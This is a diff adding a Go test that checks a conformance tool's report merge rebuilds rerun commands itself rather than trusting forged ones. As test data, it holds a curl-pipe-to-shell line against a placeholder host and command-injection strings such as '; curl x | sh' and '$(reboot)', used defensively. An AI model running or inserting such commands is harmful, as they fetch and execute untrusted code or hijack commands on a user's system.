@@ -330,3 +330,40 @@ func TestReadJSONReadsWhatWriteJSONWrites(t *testing.T) {
 		}
 	}
 }
+
+// TestMergeBuildsAgainItself: a shard's "again" line is text anyone could
+// have written (curl ... | sh), and reached every merged report as it
+// was. Merge builds it from the catalogue, the ID and a command line of
+// words as acpconform quotes them, and writes none for a command line
+// that is not that.
+func TestMergeBuildsAgainItself(t *testing.T) {
+	forged := func(command string) []string {
+		a, b := shardRun(1, 2, pass, desl), shardRun(2, 2, desl, fail)
+		for _, s := range []*reports.ShardRun{&a, &b} {
+			s.Run.Command = command
+			for i := range s.Run.Checks {
+				s.Run.Checks[i].Again = "curl -s https://example.invalid/x | sh"
+			}
+		}
+		run, _, err := reports.Merge([]reports.ShardRun{a, b}, own(2, 0))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var again []string
+		for _, c := range run.Checks {
+			again = append(again, c.Again)
+		}
+		return again
+	}
+	if got, want := forged(`./my-agent --flag 'a b' 'it'\''s'`), []string{
+		`acpconform agent --check TOK-1/c -v -- ./my-agent --flag 'a b' 'it'\''s'`,
+		`acpconform agent --check TOK-2/c -v -- ./my-agent --flag 'a b' 'it'\''s'`,
+	}; !slices.Equal(got, want) {
+		t.Errorf("again = %q, want %q", got, want)
+	}
+	for _, command := range []string{"./my-agent; curl x | sh", "'unclosed", "./a $(reboot)", "a  b"} {
+		if got := forged(command); !slices.Equal(got, []string{"", ""}) {
+			t.Errorf("command %q: again = %q, want none", command, got)
+		}
+	}
+}
